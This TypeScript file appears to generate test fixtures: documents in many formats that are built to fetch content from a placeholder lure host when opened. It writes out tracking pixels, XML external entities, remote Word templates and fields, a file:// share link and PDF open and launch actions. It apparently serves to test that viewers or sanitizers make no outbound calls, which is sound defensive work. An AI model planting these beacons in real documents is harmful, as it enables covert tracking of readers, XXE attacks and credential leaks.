// Documents of every kind that would have whoever opens them fetch something: pictures, templates, styles, schemas, fonts. Who
// does so tells the sender that, when and where the document was read.
import { strToU8 } from 'fflate';
import type { FormatSample } from './format-samples';
import { makeZip } from './make-archive';
import { docxParagraph, makeDocx } from './make-docx';
import { makeEpub } from './make-epub';
import { mailPart, makeMail, multipart } from './make-mail';
import { makeOpenDocument } from './make-opendocument';
import { drawPdf } from './make-pdf';
import { makePptx, pptxShape } from './make-pptx';

/** By number, so that a connection shows even where no name can be resolved; it leads to nobody (RFC 5737). */
export const LURE_ADDRESS = '192.0.2.80';
const BY_NAME = 'http://lure.example.invalid';
const BY_NUMBER = `http://${LURE_ADDRESS}`;

const TEXT = 'The lighthouse keeper counted the ships that passed.';
const PAGE = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "${BY_NUMBER}/xhtml.dtd">
<html><head><title>Ships</title><base href="${BY_NUMBER}/"><link rel="stylesheet" href="${BY_NAME}/a.css">
<link rel="preload" as="font" href="${BY_NUMBER}/a.woff2"><link rel="dns-prefetch" href="//lure.example.invalid">
<meta http-equiv="refresh" content="0; url=${BY_NUMBER}/"><script src="${BY_NUMBER}/a.js"></script>
<style>@import url(${BY_NUMBER}/b.css); p { background: url(${BY_NAME}/b.png) }</style></head>
<body><p>${TEXT}</p><img src="${BY_NUMBER}/pixel.png" srcset="${BY_NAME}/two.png 2x"><iframe src="${BY_NAME}/"></iframe>
<video src="${BY_NUMBER}/a.mp4" poster="${BY_NUMBER}/a.png" autoplay></video><object data="${BY_NUMBER}/a.swf"></object>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${BY_NUMBER}/c.png"/></svg></body></html>`;
const DTD = `<!DOCTYPE data SYSTEM "${BY_NUMBER}/data.dtd" [<!ENTITY far SYSTEM "${BY_NUMBER}/far.txt"><!ENTITY % more SYSTEM "${BY_NAME}/more.dtd"> %more;]>`;

export function luringDocuments(): FormatSample[] {
  const html = strToU8(PAGE);
  return [
    { fileName: 'lure.html', bytes: html },
    { fileName: 'lure.xhtml', bytes: html },
    { fileName: 'lure.mht', bytes: makeMail({ 'Content-Type': 'text/html' }, PAGE) },
    { fileName: 'lure.md', bytes: strToU8(`# Ships\n\n${TEXT}\n\n![a](${BY_NUMBER}/d.png)\n\n${PAGE}\n`) },
    { fileName: 'lure.rst', bytes: strToU8(`Ships\n=====\n\n${TEXT}\n\n.. image:: ${BY_NUMBER}/e.png\n`) },
    { fileName: 'lure.xml', bytes: strToU8(`<?xml version="1.0"?>${DTD}<data>${TEXT} &far;</data>`) },
    {
      fileName: 'lure.svg',
      bytes: strToU8(
        `${DTD}<svg xmlns="http://www.w3.org/2000/svg"><text>${TEXT}</text><image href="${BY_NUMBER}/f.png"/></svg>`,
      ),
    },
    { fileName: 'lure.eml', bytes: luringMail() },
    { fileName: 'lure.docx', bytes: luringWord() },
    { fileName: 'lure.pptx', bytes: luringSlides() },
    { fileName: 'lure.odt', bytes: luringText() },
    { fileName: 'lure.epub', bytes: makeEpub({ chapters: [{ href: 'one.xhtml', source: html }] }) },
    { fileName: 'lure.pdf', bytes: luringPdf() },
    {
      fileName: 'lure.rtf',
      bytes: strToU8(
        `{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${BY_NUMBER}/g.png"}}{\\*\\template ${BY_NUMBER}/t} ${TEXT}}`,
      ),
    },
    {
      fileName: 'lure.ipynb',
      bytes: strToU8(
        JSON.stringify({
          cells: [{ cell_type: 'markdown', metadata: {}, source: [PAGE] }],
          metadata: {},
          nbformat: 4,
        }),
      ),
    },
    { fileName: 'lure.zip', bytes: makeZip([{ name: 'inside.html', bytes: html }]) },
  ];
}

function luringMail(): Uint8Array {
  const { headers, body } = multipart('related', [
    mailPart('text/html', PAGE),
    // Bodies that lie elsewhere, as MIME has them.
    mailPart(
      `message/external-body; access-type=URL; URL="${BY_NUMBER}/body"`,
      'Content-Type: text/plain\n\n',
    ),
  ]);
  const asked = { 'Disposition-Notification-To': 'lure@example.invalid', 'Content-Base': BY_NUMBER };
  return makeMail({ Subject: 'Ships', ...asked, ...headers }, body);
}

function luringWord(): Uint8Array {
  const picture =
    '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rLure"/></w:drawing></w:r>';
  const field = `<w:fldSimple w:instr="INCLUDETEXT &quot;${BY_NUMBER}/text.docx&quot;"><w:r><w:t>more</w:t></w:r></w:fldSimple>`;
  return makeDocx({
    body: `${docxParagraph(TEXT)}<w:p>${picture}${field}</w:p>`,
    relationships: [
      { id: 'rLure', kind: 'image', target: `${BY_NUMBER}/h.png`, isExternal: true },
      { id: 'rTemplate', kind: 'attachedTemplate', target: `${BY_NUMBER}/t.dotm`, isExternal: true },
      { id: 'rFrame', kind: 'frame', target: `${BY_NAME}/frame.docx`, isExternal: true },
      {
        id: 'rShare',
        kind: 'oleObject',
        target: `file://${LURE_ADDRESS}/share/object.docx`,
        isExternal: true,
      },
    ],
  });
}

function luringSlides(): Uint8Array {
  const linked = { id: 'rLure', kind: 'image', target: `${BY_NUMBER}/i.png`, isExternal: true };
  return makePptx({ slides: [{ shapes: pptxShape([TEXT]), relationships: [linked] }] });
}

function luringText(): Uint8Array {
  const frame = `<draw:frame><draw:image xlink:href="${BY_NUMBER}/j.png"/></draw:frame>`;
  const section = `<text:section text:name="s"><text:section-source xlink:href="${BY_NAME}/k.odt"/></text:section>`;
  return makeOpenDocument({ body: `<office:text><text:p>${TEXT}${frame}</text:p>${section}</office:text>` });
}

/** What a PDF can do when it is opened, and what its streams can be taken from. */
function luringPdf(): Uint8Array {
  const far = `<< /FS /URL /F (${BY_NUMBER}/stream) >>`;
  return drawPdf({
    contents: [`BT /F1 12 Tf 50 700 Td (${TEXT}) Tj ET /X1 Do`],
    catalog: `/OpenAction << /S /URI /URI (${BY_NUMBER}/open) >> /AA << /WC << /S /SubmitForm /F ${far} >> >>`,
    page: () =>
      `/AA << /O << /S /GoToR /F (${BY_NUMBER}/other.pdf) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (${BY_NAME}) >> >>]`,
    resources: `/XObject << /X1 << /Type /XObject /Subtype /Image /Width 1 /Height 1 /F ${far} /Length 0 >> >>`,
  });
}
